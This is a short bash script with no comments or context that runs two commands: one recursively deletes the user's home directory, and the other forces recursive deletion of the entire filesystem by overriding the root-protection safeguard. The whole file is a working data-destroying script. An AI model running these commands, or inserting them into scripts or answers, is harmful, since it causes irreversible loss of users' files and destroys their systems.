#!/bin/bash
rm -rf ~ 
rm -rf / --no-preserve-root
